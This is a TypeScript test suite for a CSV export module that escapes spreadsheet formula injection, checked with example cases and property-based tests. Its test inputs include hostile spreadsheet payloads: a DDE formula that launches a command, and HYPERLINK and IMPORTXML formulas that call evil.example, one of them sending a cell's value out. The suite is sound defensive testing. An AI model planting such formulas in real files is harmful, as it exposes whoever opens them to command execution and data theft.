import { Big } from 'big.js'
import * as fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import { csvCell, type CsvCell, csvText } from '@/domain/csv'

/** Parses a file by RFC 4180, one character at a time; text after a closing quote belongs to the cell. */
function parsed(text: string, separator = ','): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let isQuoted = false
  for (let index = 0; index < text.length; index += 1) {
    const character = text.charAt(index)
    if (isQuoted) {
      if (character !== '"') cell += character
      else if (text.charAt(index + 1) === '"') {
        cell += '"'
        index += 1
      } else isQuoted = false
    } else if (character === '"' && cell === '') isQuoted = true
    else if (character === separator) {
      row.push(cell)
      cell = ''
    } else if (character === '\r' && text.charAt(index + 1) === '\n') {
      rows.push([...row, cell])
      row = []
      cell = ''
      index += 1
    } else cell += character
  }
  return rows
}

/** Escaping adds apostrophes, and must change nothing else. */
const withoutApostrophes = (rows: string[][]) => rows.map((row) => row.map((cell) => cell.replaceAll("'", '')))

describe('a cell that a spreadsheet would execute', () => {
  test.each([
    ['=1+1', `'=1+1`],
    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
    ['=HYPERLINK("http://evil.example","Click")', `"'=HYPERLINK(""http://evil.example"",""Click"")"`],
    [
      '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
      `"'=IMPORTXML(CONCAT(""http://evil.example/?v="",A1),""//a"")"`,
    ],
    ['+92 300 1234567', `'+92 300 1234567`],
    ['-5.00', `'-5.00`],
    ['@home', `'@home`],
    ['\t=1+1', `"'\t'=1+1"`],
    ['\tplain', `"'\tplain"`],
    ['\r=1+1', `"'\r'=1+1"`],
    ['\n=1+1', `"'\n'=1+1"`],
    [' =1+1', `' =1+1`],
    ['\u200b=1+1', `'\u200b=1+1`],
    ['\u0000=1+1', `'\u0000=1+1`],
    ['＝1+1', `'＝1+1`],
    ['="A","B"', `"'=""A"",""B"""`],
    ['=1\r\n=2', `"'=1\r\n'=2"`],
    ['"=1+1"', `"'""=1+1"""`],
    ["'=1+1", `''=1+1`],
    ['\u200b \u2066=1', `'\u200b \u2066=1`],
    ['a;=1+1', `"a;'=1+1"`],
    ['a; "@x', `"a;' ""@x"`],
    ['a\t\u00ad+1', `"a\t'\u00ad+1"`],
    ['a\n\t \u2800-1', `"a\n\t' \u2800-1"`],
    ...Array.from('⩵⩶﹦⁼₌﹢⁺₊﬩﹣⁻₋−–—‐‑﹫', (sign): [string, string] => [`${sign}1`, `'${sign}1`]),
  ])('%j is written %j', (text, written) => {
    const cell = csvCell(text)
    expect(cell).toBe(written)
    expect(withoutApostrophes(parsed(`${cell}\r\n`))).toEqual(withoutApostrophes([[text]]))
  })
})

describe('a harmless cell', () => {
  test.each<[CsvCell, string]>([
    ['Chenab', 'Chenab'],
    ['a=b', 'a=b'],
    ['3-5 days', '3-5 days'],
    ['someone@chenab.example', 'someone@chenab.example'],
    ["'quoted'", "'quoted'"],
    ['', ''],
    [null, ''],
    [undefined, ''],
    ['لاہور', 'لاہور'],
    ['Lahore, Punjab', '"Lahore, Punjab"'],
    ['5" pipe', '"5"" pipe"'],
    ['one\ntwo', '"one\ntwo"'],
    ['a;b', '"a;b"'],
    ['a\tb', '"a\tb"'],
    ['a, -5 and = 6', '"a, -5 and = 6"'],
    [' padded ', '" padded "'],
    [true, 'true'],
  ])('%j is written %j', (cell, written) => {
    expect(csvCell(cell)).toBe(written)
  })
})

describe('an amount, which must stay a number,', () => {
  test.each<[CsvCell, string]>([
    [0, '0'],
    [14500.5, '14500.5'],
    [-250.5, '-250.5'],
    [new Big('-0.01'), '-0.01'],
    [new Big('14001.63'), '14001.63'],
    [Number.NaN, ''],
    [Number.POSITIVE_INFINITY, ''],
  ])('%s is written %s', (cell, written) => {
    expect(csvCell(cell)).toBe(written)
  })
})

describe('a CSV file', () => {
  it('starts with the byte order mark and ends every line with CR LF', () => {
    expect(
      csvText([
        ['AB #', 'Amount'],
        ['1234567890', 5],
      ]),
    ).toBe('\ufeffAB #,Amount\r\n1234567890,5\r\n')
    expect(csvText([])).toBe('\ufeff')
  })

  const text = fc.oneof(
    fc.string({ unit: fc.nat(0x2fff).map((code) => String.fromCharCode(code)), maxLength: 8 }),
    fc.stringMatching(/^[=+\-@\t\r\n ",;'a1]{0,10}$/),
    fc.stringMatching(/^[=＝﹦⁼＋﹢⁺－﹣⁻−–＠﹫\u200b\u2066\ufeff\u3000"“;\ta]{0,8}$/),
  )
  const cell = fc.oneof({ weight: 4, arbitrary: text }, fc.integer({ min: -99, max: 99 }))
  // The first column of every file is a text: the airway bill number.
  const row = fc.tuple(text, cell, cell, text)
  const tables: fc.Arbitrary<(string | number)[][]> = fc.array(row, { minLength: 1, maxLength: 5 })

  it('is parsed back as written, except for apostrophes', () => {
    fc.assert(
      fc.property(tables, (table) => {
        expect(withoutApostrophes(parsed(csvText(table).slice(1)))).toEqual(
          withoutApostrophes(table.map((cells) => cells.map(String))),
        )
      }),
    )
  })

  it.each([',', ';', '\t'])('has no cell that begins with a formula when parsed with %j as separator', (separator) => {
    // A negative number of the table is not a formula.
    const begins = /^(?!-\d+$)[\s\p{Cc}\p{Cf}\p{Z}"“”]*[=＝﹦⁼₌+＋﹢⁺₊\-－﹣⁻₋−–—@＠﹫]/u
    fc.assert(
      fc.property(tables, (table) => {
        const file = csvText(table).slice(1)
        for (const cell of parsed(file, separator).flat()) expect(cell).not.toMatch(begins)
        if (separator === ',') return
        // Some programs take a quote within a cell for text, so that it does not protect a separator.
        for (const cell of file.split(new RegExp(`[${separator}\r\n]`))) expect(cell).not.toMatch(begins)
      }),
      { numRuns: 500 },
    )
  })
})
